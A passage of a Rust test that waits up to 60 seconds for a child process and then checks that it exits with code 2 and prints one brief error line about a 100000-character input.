    while child.try_wait().unwrap().is_none() {
        if std::time::Instant::now() > deadline {
            child.kill().unwrap();
            panic!("no answer within 60 s");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(stderr.len() < 300, "{stderr}");
    assert!(stderr.contains("(100000 characters)"), "{stderr}");
}
